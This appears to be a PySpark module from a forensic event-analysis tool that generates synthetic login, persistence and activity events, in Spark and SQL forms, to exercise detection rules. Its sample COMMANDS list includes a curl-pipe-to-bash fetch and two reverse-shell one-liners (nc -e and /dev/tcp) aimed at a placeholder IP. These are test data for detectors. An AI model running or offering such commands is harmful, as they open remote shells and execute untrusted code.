"""Event tables made from the stream table ``events(event_id, ts, user_id, event_type, value, props)``.

``audit_events`` reads each row as a login or account event, ``mixed_events`` spreads the rows over all
subcategories the rules and reports look at.  Both exist in Spark and as a SQL text with the same columns.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from fleetlens.functions.ids import EVENT_NAMESPACE_HEX, event_hash, uuid5
from fleetlens.schema import EVENT_COLUMNS
from fleetlens.session import pin_utc

AUDIT_KINDS = {
    "error": ("login_activity", "failed_login"),
    "click": ("login_activity", "successful_login"),
    "view": ("login_activity", "logout"),
    "signup": ("user_accounts", "account_created"),
    "purchase": ("privilege_escalation", "group_membership_added"),
}

MIXED_KINDS = (
    ("user_accounts", "account"), ("user_accounts", "uid0_account"),
    ("user_accounts", "passwordless_account"), ("user_accounts", "privileged_group_member"),
    ("user_accounts", "account_added_since_backup"), ("privilege_escalation", "group_membership_added"),
    ("privilege_escalation", "sudo_command"), ("privilege_escalation", "sudo_execution"),
    ("login_activity", "failed_login"), ("login_activity", "invalid_user"),
    ("login_activity", "auth_failure"), ("login_activity", "successful_login"),
    ("login_activity", "session_opened"), ("login_activity", "session_closed"),
    ("login_activity", "utmp_empty"), ("user_activity", "shell_command"),
    ("user_activity", "suspicious_command"), ("user_activity", "process_execution"),
    ("user_activity", "running_process"), ("user_activity", "http_request"),
    ("user_activity", "ftp_transfer"), ("user_activity", "browser_history"),
    ("user_activity", "browser_download"), ("user_activity", "known_host"),
    ("persistence", "suspicious_cron_command"), ("persistence", "suspicious_cron_job"),
    ("persistence", "authorized_key"), ("persistence", "systemd_unit"), ("persistence", "cron_command"),
    ("persistence", "sshd_setting"), ("persistence", "ld_preload_set"),
    ("environment", "storage_device"), ("environment", "filesystem_mount"),
    ("environment", "journal_message"), ("environment", "journal_sequence_gap"),
    ("environment", "os_identity"), ("hardware_usb", "usb_connect"), ("network_config", "firewall_block"),
    ("network_config", "network_interface"), ("network_config", "dns_nameserver"),
    ("network_config", "established"), ("network_config", "listen"), ("software_changes", "package_install"),
)
COMMANDS = (
    "ls -l /srv", "curl http://198.51.100.7/a | bash", "systemctl status cron", "nc -e /bin/sh 198.51.100.7 9",
    "tar czf /backup/a.tgz /srv", "wget https://example.org/x.deb", "bash -i >& /dev/tcp/198.51.100.7/443 0>&1",
    "cat /etc/hostname", "vsftpd reload", "sshd -t",
)


def spread_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The events table over all cores: its file is one split, and the views compute two digests per row."""
    return read_table(spark, sf_dir, "events").repartition(spread_width(spark), "event_id")


def spread_width(spark: SparkSession) -> int:
    """Partitions for rows that grow by what is made of them: the session's shuffle width, so that a task's share stays bounded.

    A stated number, because adaptive execution would join partitions by the bytes of the narrow rows.
    """
    return max(spark.sparkContext.defaultParallelism, int(spark.conf.get("spark.sql.shuffle.partitions")))


def read_table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    return pin_utc(spark).read.parquet(f"{sf_dir}/{name}.parquet")



def _identify(rows: DataFrame) -> DataFrame:
    """Add hash and id, order the columns."""
    hashed = rows.withColumn("event_hash", event_hash(
        F.col("host_id"), F.col("source_artifact_path"), F.col("raw_line_offset"), F.col("raw_line"),
        F.col("subcategory")))
    return hashed.withColumn("event_id", uuid5(F.col("event_hash"))).select(*EVENT_COLUMNS)


def _common(rows: DataFrame) -> DataFrame:
    value = F.col("value")
    return (
        rows.withColumn("case_id", F.lit("case"))
        .withColumn("host_id", F.concat(F.lit("host-"), (F.col("user_id") % 8).cast("string")))
        .withColumn("event_kind", F.lit("event"))
        .withColumn("timestamp_utc", F.col("ts").cast("timestamp"))
        .withColumn("timestamp_local", F.col("ts").cast("timestamp_ntz"))
        .withColumn("timestamp_tz", F.lit("UTC")).withColumn("tz_source", F.lit("assumed_utc"))
        .withColumn("timestamp_confidence", F.lit("exact"))
        .withColumn("actor_user", F.concat(F.lit("u"), F.col("user_id").cast("string")))
        .withColumn("actor_uid", F.col("user_id"))
        .withColumn("source_ip", F.concat(F.lit("10.0.0."), (F.col("user_id") % 25).cast("string")))
        .withColumn("source_host", F.lit(None).cast("string"))
        .withColumn("severity", F.when(value >= 40, "high").when(value >= 20, "medium")
                    .when(value >= 5, "low").otherwise("info"))
        .withColumn("raw_line_offset", F.col("event_id") * 80)
        .withColumn("source_artifact_path", F.concat(
            F.lit("var/log/auth.log."), (F.col("user_id") % 8 + 1).cast("string")))
        .withColumn("source_artifact_sha256", F.sha2("source_artifact_path", 256))
        .withColumn("parser_name", F.lit("authlog_parser")).withColumn("parser_version", F.lit("1.0"))
        .withColumn("tool_generated_flag", F.get_json_object("props", "$.k").cast("int") % 50 == 0)
        .withColumn("notes", F.lit(None).cast("string")))


def audit_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    return audit_rows(spread_events(spark, sf_dir))


def audit_rows(rows: DataFrame) -> DataFrame:
    """The audit view over rows of the events table, batch or stream."""
    kind = F.col("event_type")
    pick = lambda i: F.coalesce(*[F.when(kind == t, F.lit(v[i])) for t, v in AUDIT_KINDS.items()])
    rows = (_common(rows).withColumn("category", pick(0)).withColumn("subcategory", pick(1))
            .withColumn("actor_process", F.when(F.col("category") == "login_activity", "sshd")
                        .otherwise("useradd"))
            .withColumn("description", F.concat_ws(" ", "subcategory", F.lit("of"), "actor_user"))
            .withColumn("raw_line", F.concat_ws(
                " ", F.concat(F.col("actor_process"), F.lit(":")), "subcategory", "actor_user", F.lit("from"),
                "source_ip", F.col("props"))))
    return _identify(rows)


def mixed_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Every subcategory, some undated rows, and commands in description and raw line."""
    rows = spread_events(spark, sf_dir)
    which = (F.col("event_id") % len(MIXED_KINDS) + 1).cast("int")
    table = lambda i: F.array(*[F.lit(k[i]) for k in MIXED_KINDS])
    command = F.element_at(F.array(*map(F.lit, COMMANDS)), (F.col("user_id") % len(COMMANDS) + 1).cast("int"))
    rows = (_common(rows).withColumn("category", F.element_at(table(0), which))
            # Copies 1, 3, 5 ... only, and lines out of time order: material for the gap rules.
            .withColumn("source_artifact_path", F.concat(
                F.lit("var/log/syslog."), (F.col("user_id") % 8 * 2 + 1).cast("string")))
            .withColumn("raw_line_offset", F.col("event_id") * 7919 % 1000003 * 80)
            .withColumn("subcategory", F.element_at(table(1), which))
            .withColumn("command", command)
            .withColumn("timestamp_utc", F.when(
                ~F.col("subcategory").isin("account", "running_process", "authorized_key", "utmp_empty"),
                F.col("timestamp_utc")))
            .withColumn("actor_process", F.when(F.col("category") == "login_activity", "sshd")
                        .otherwise("agent"))
            .withColumn("description", F.when(
                F.col("subcategory").isin("process_execution"),
                F.concat(F.lit("Process executed: "), F.col("command"), F.lit("  (exe=/bin/x)")))
                .when(F.col("subcategory").isin("shell_command", "suspicious_command"),
                      F.concat(F.lit("User "), F.col("actor_user"), F.lit(" executed: "), F.col("command")))
                .when(F.col("subcategory") == "privileged_group_member",
                      F.concat(F.lit("User "), F.col("actor_user"), F.lit(" belongs to privileged group "),
                               F.when(F.col("user_id") % 3 == 0, "sudo").otherwise("docker")))
                .when(F.col("subcategory") == "authorized_key",
                      F.concat(F.lit("key added (file mtime "),
                               F.date_format("ts", "yyyy-MM-dd'T'HH:mm:ss"), F.lit("+00:00)")))
                .otherwise(F.concat_ws(" ", "subcategory", F.lit("of"), "actor_user")))
            .withColumn("raw_line", F.when(
                F.col("category").isin("user_activity", "persistence"), F.col("command"))
                .otherwise(F.concat_ws(" ", "actor_process", "subcategory", "actor_user")))
            .withColumn("actor_uid", F.when(F.col("subcategory") == "uid0_account", F.lit(0))
                        .otherwise(F.col("actor_uid"))))
    return _identify(rows)


def _list_sql(values) -> str:
    return "[" + ", ".join("'" + v.replace("'", "''") + "'" for v in values) + "]"


_HASH_SQL = ("sha256(concat_ws(chr(31), host_id, source_artifact_path, CAST(raw_line_offset AS VARCHAR), "
             "raw_line, subcategory))")
_SHA1_SQL = f"sha1(from_hex('{EVENT_NAMESPACE_HEX}') || encode(event_hash))"
_UUID_SQL = ("substr(h, 1, 8) || '-' || substr(h, 9, 4) || '-5' || substr(h, 14, 3) || '-' || "
             "substr('89ab', (instr('0123456789abcdef', substr(h, 17, 1)) - 1) % 4 + 1, 1) || "
             "substr(h, 18, 3) || '-' || substr(h, 21, 12)")
_COMMON_SQL = """event_id AS row_id, ts, user_id, event_type, props, 'case' AS case_id,
    'host-' || CAST(user_id % 8 AS VARCHAR) AS host_id, 'event' AS event_kind, ts AS timestamp_local,
    'u' || CAST(user_id AS VARCHAR) AS actor_user, '10.0.0.' || CAST(user_id % 25 AS VARCHAR) AS source_ip,
    CASE WHEN value >= 40 THEN 'high' WHEN value >= 20 THEN 'medium' WHEN value >= 5 THEN 'low'
         ELSE 'info' END AS severity,
    event_id * 80 AS raw_line_offset,
    'var/log/auth.log.' || CAST(user_id % 8 + 1 AS VARCHAR) AS source_artifact_path,
    CAST(regexp_extract(props, '[0-9]+') AS INTEGER) % 50 = 0 AS tool_generated_flag,
    CAST(NULL AS VARCHAR) AS notes, CAST(NULL AS VARCHAR) AS source_host"""


def _case_sql(i: int) -> str:
    return "CASE event_type " + " ".join(
        f"WHEN '{t}' THEN '{v[i]}'" for t, v in AUDIT_KINDS.items()) + " END"


AUDIT_SQL = f"""audit0 AS (SELECT {_COMMON_SQL}, ts AS timestamp_utc, user_id AS actor_uid,
    {_case_sql(0)} AS category, {_case_sql(1)} AS subcategory FROM events),
audit1 AS (SELECT *, CASE WHEN category = 'login_activity' THEN 'sshd' ELSE 'useradd' END AS actor_process,
    subcategory || ' of ' || actor_user AS description FROM audit0),
audit2 AS (SELECT *, actor_process || ': ' || subcategory || ' ' || actor_user || ' from ' || source_ip ||
    ' ' || props AS raw_line FROM audit1),
audit3 AS (SELECT *, {_HASH_SQL} AS event_hash FROM audit2),
audit4 AS (SELECT *, {_SHA1_SQL} AS h FROM audit3),
audit AS (SELECT * EXCLUDE (h), {_UUID_SQL} AS event_id FROM audit4)"""

MIXED_SQL = f"""mixed0 AS (SELECT {_COMMON_SQL.replace("event_id * 80", "event_id * 7919 % 1000003 * 80")
    .replace("'var/log/auth.log.' || CAST(user_id % 8 + 1 AS VARCHAR)",
             "'var/log/syslog.' || CAST(user_id % 8 * 2 + 1 AS VARCHAR)")},
    {_list_sql(k[0] for k in MIXED_KINDS)}[CAST(event_id % {len(MIXED_KINDS)} + 1 AS INTEGER)] AS category,
    {_list_sql(k[1] for k in MIXED_KINDS)}[CAST(event_id % {len(MIXED_KINDS)} + 1 AS INTEGER)] AS subcategory,
    {_list_sql(COMMANDS)}[CAST(user_id % {len(COMMANDS)} + 1 AS INTEGER)] AS command FROM events),
mixed1 AS (SELECT *,
    CASE WHEN subcategory NOT IN ('account', 'running_process', 'authorized_key', 'utmp_empty')
         THEN ts END AS timestamp_utc,
    CASE WHEN category = 'login_activity' THEN 'sshd' ELSE 'agent' END AS actor_process,
    CASE WHEN subcategory = 'uid0_account' THEN 0 ELSE user_id END AS actor_uid,
    CASE WHEN subcategory = 'process_execution' THEN 'Process executed: ' || command || '  (exe=/bin/x)'
         WHEN subcategory IN ('shell_command', 'suspicious_command')
              THEN 'User ' || actor_user || ' executed: ' || command
         WHEN subcategory = 'privileged_group_member' THEN 'User ' || actor_user ||
              ' belongs to privileged group ' || CASE WHEN user_id % 3 = 0 THEN 'sudo' ELSE 'docker' END
         WHEN subcategory = 'authorized_key' THEN 'key added (file mtime ' ||
              strftime(ts, '%Y-%m-%dT%H:%M:%S') || '+00:00)'
         ELSE subcategory || ' of ' || actor_user END AS description FROM mixed0),
mixed2 AS (SELECT *, CASE WHEN category IN ('user_activity', 'persistence') THEN command
    ELSE actor_process || ' ' || subcategory || ' ' || actor_user END AS raw_line FROM mixed1),
mixed3 AS (SELECT *, {_HASH_SQL} AS event_hash FROM mixed2),
mixed4 AS (SELECT *, {_SHA1_SQL} AS h FROM mixed3),
mixed AS (SELECT * EXCLUDE (h), {_UUID_SQL} AS event_id FROM mixed4)"""
